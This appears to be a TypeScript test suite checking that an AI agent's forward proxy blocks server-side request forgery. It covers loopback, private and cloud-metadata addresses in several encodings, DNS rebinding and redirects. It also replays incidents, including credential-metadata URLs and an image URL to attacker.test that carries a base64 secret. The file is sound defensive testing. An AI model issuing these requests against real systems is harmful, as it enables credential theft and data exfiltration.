/** Ways round the forward proxy: other addresses than those that were permitted. */
import { describe, expect, it } from 'vitest';
import { connectHead, secureTunnel } from '../../support/forward-proxy.ts';
import type { AuditRecord } from '../../support/gateway.ts';
import { curl } from '../../support/http-clients.ts';
import { asked, ca, gateway, lookups, place, resolveTo, say, tunnel, useProxyScene } from './proxy-scene.ts';

useProxyScene();

describe('P3: a name leads where it may lead', () => {
  const inTunnel = async (named: string): Promise<string> => {
    const { status, socket } = await tunnel(await connectHead(gateway, named));
    expect(status).toBe(200);
    const servername = named.replace(/:\d+$/, '');
    const secured = await secureTunnel(socket, { ...ca(), servername, checkServerIdentity: () => undefined });
    return say(secured, `GET /a HTTP/1.1\r\nHost: ${named}\r\n\r\n`);
  };

  it.each<readonly [string, readonly string[]]>([
    ['this machine', ['127.0.0.1']],
    ['this machine in IPv6', ['::1']],
    ['a private network', ['10.0.0.1']],
    ['a metadata service', ['169.254.169.254']],
    ['a metadata service of IPv6', ['fd00:ec2::254']],
    ['a metadata service among public addresses', ['168.63.129.16']],
    ['a network of a provider', ['100.64.0.1']],
    ['IPv4 inside of IPv6', ['::ffff:169.254.169.254']],
    ['IPv4 behind NAT64', ['64:ff9b::a9fe:a9fe']],
    ['a public address and a private one', ['8.8.8.8', '192.168.0.1']],
  ])('not to %s', async (_what, addresses) => {
    resolveTo(addresses);
    const answer = await inTunnel('a.wide.test:443');
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(answer).toContain('ERR_HTTP_UPSTREAM_ADDRESS');
    for (const address of addresses) expect(answer).not.toContain(address);
    expect(lookups).toEqual(['a.wide.test']);
    const session = gateway.records().findLast(({ type }) => type === 'session.opened')?.['session'];
    const isRefused = (record: AuditRecord): boolean =>
      record['session'] === session &&
      (record['result'] as { readonly code?: string } | undefined)?.code === 'ERR_HTTP_UPSTREAM_ADDRESS';
    const all = await gateway.recordsUntil((records) => records.some(isRefused));
    expect(all.find(isRefused)).toMatchObject({ type: 'exchange.outcome', status: 'error' });
  });

  it.each([['127.0.0.1:443'], ['[::1]:443']])(
    'not to %s, though a resource names that address',
    async (named) => {
      const { status, socket } = await tunnel(await connectHead(gateway, named));
      expect(status).toBe(200);
      const secured = await secureTunnel(socket, { ...ca(), checkServerIdentity: () => undefined });
      expect(await say(secured, `GET /a HTTP/1.1\r\nHost: ${named}\r\n\r\n`)).toContain(
        'ERR_HTTP_UPSTREAM_ADDRESS',
      );
      expect(lookups).toEqual([]);
    },
  );

  it.each([['127.0.0.1'], ['127.0.0.2']])(
    'nor to the gateway’s own machine (%s) by a range that holds it',
    async (address) => {
      resolveTo([address]);
      const answer = await inTunnel(`gateway.lan.test:${gateway.webPort}`);
      // Nobody listens at the other one, where the system keeps them apart.
      expect(answer).toMatch(/ERR_HTTP_UPSTREAM_ADDRESS|ERR_HTTP_UPSTREAM_UNREACHABLE/);
      expect(asked).toEqual([]);
    },
  );

  it('nor to what it becomes between the look and the connection: it is resolved once', async () => {
    resolveTo(['127.0.0.1'], ['10.0.0.1'], ['169.254.169.254']);
    expect(await inTunnel(`deep.api.example.test:${gateway.webPort}`)).toMatch(/^HTTP\/1\.1 200 /);
    expect(asked).toHaveLength(1);
    expect(lookups).toEqual(['deep.api.example.test']);
  });

  it('nor to what it is later: each connection looks anew', async () => {
    resolveTo(['127.0.0.1'], ['169.254.169.254']);
    const first = `other.example.test:${gateway.webPort}`;
    const { socket } = await tunnel(await connectHead(gateway, first));
    const secured = await secureTunnel(socket, { ...ca(), servername: 'other.example.test' });
    const bye = `GET /a HTTP/1.1\r\nHost: ${first}\r\nConnection: close\r\n\r\n`;
    expect(await say(secured, bye)).toMatch(/^HTTP\/1\.1 200 /);
    gateway.web.closeAllConnections();
    expect(await inTunnel(first)).toContain('ERR_HTTP_UPSTREAM_ADDRESS');
    expect(asked).toHaveLength(1);
  });

  it.each([
    ['http://169.254.169.254/latest/meta-data/'],
    ['https://169.254.169.254/'],
    ['https://nowhere.test/'],
    ['http://2852039166/'],
  ])('nor where a service sends the client: %s is asked for anew', async (to) => {
    const url = `https://${place}/?to=${encodeURIComponent(to)}`;
    const args = ['--proxy', await gateway.proxyUrl(), '--cacert', gateway.caFile, '-L', '-i', url];
    const { stdout, stderr } = await curl(args);
    // curl itself writes 2852039166 as an address.
    expect(stdout + stderr).toMatch(
      /HTTP\/(1\.1|2) 302 [^]*(HTTP\/1\.1 403|CONNECT tunnel failed, response 403)/,
    );
    expect(asked).toHaveLength(1);
    const refused = gateway.records().findLast(({ type }) => type === 'destination.refused');
    expect(refused?.['destination']).toMatch(/^(169\.254\.169\.254|nowhere\.test):(80|443)$/);
  });

  it('and a redirect to a place that may be reached is followed, through the gateway', async () => {
    const to = `https://other.example.test:${gateway.webPort}/b`;
    const url = `https://${place}/?to=${encodeURIComponent(to)}`;
    const args = ['--proxy', await gateway.proxyUrl(), '--cacert', gateway.caFile, '-L', url];
    expect((await curl(args)).stdout).toContain('served');
    expect(asked).toHaveLength(2);
  });

  it('and one of a resource with a path of its own leads to the whole path', async () => {
    const base = `https://localhost:${gateway.webPort}`;
    const args = ['--proxy', await gateway.proxyUrl(), '--cacert', gateway.caFile, '-L'];
    await curl([...args, `${base}/api/a?to=${encodeURIComponent('/api/b')}`]);
    await curl([...args, `${base}/api/a?to=${encodeURIComponent(`${base}/api/c`)}`]);
    expect(asked.filter((line) => / \/api\/[bc]$/.test(line))).toHaveLength(2);
  });
});

describe('incidents, through the wire', () => {
  const fetchOf = async (url: string): Promise<string> => {
    const { stdout, stderr } = await curl(['--proxy', await gateway.proxyUrl(), '-i', url]);
    return stdout + stderr;
  };

  it.each([
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://[::ffff:169.254.169.254]/latest/meta-data/',
    'http://[fd00:ec2::254]/latest/meta-data/',
    'http://100.100.100.200/latest/meta-data/',
    'http://metadata.google.internal/computeMetadata/v1/',
  ])('P3: MarkItDown, a tool that fetches what it is told to, gets nothing of %s', async (url) => {
    resolveTo(['169.254.169.254']);
    expect(await fetchOf(url)).toMatch(/^HTTP\/1\.1 403 [^]*ERR_HTTP_DESTINATION/);
    expect(lookups).toEqual([]);
    const refused = gateway.records().findLast(({ type }) => type === 'destination.refused');
    expect(refused).toMatchObject({
      destination: expect.stringContaining(':80'),
      principal: { subject: 'agent-1' },
    });
  });

  it('P3: EchoLeak, a picture whose address is the secret, is not fetched from anywhere but where it may be', async () => {
    const secret = Buffer.from('the secret').toString('base64url');
    expect(await fetchOf(`https://attacker.test/x.png?d=${secret}`)).toContain('response 403');
    expect(await fetchOf(`http://attacker.test/x.png?d=${secret}`)).toMatch(/^HTTP\/1\.1 403 /);
    expect(JSON.stringify(gateway.records())).not.toContain(secret);
    expect(lookups).toEqual([]);
  });
});
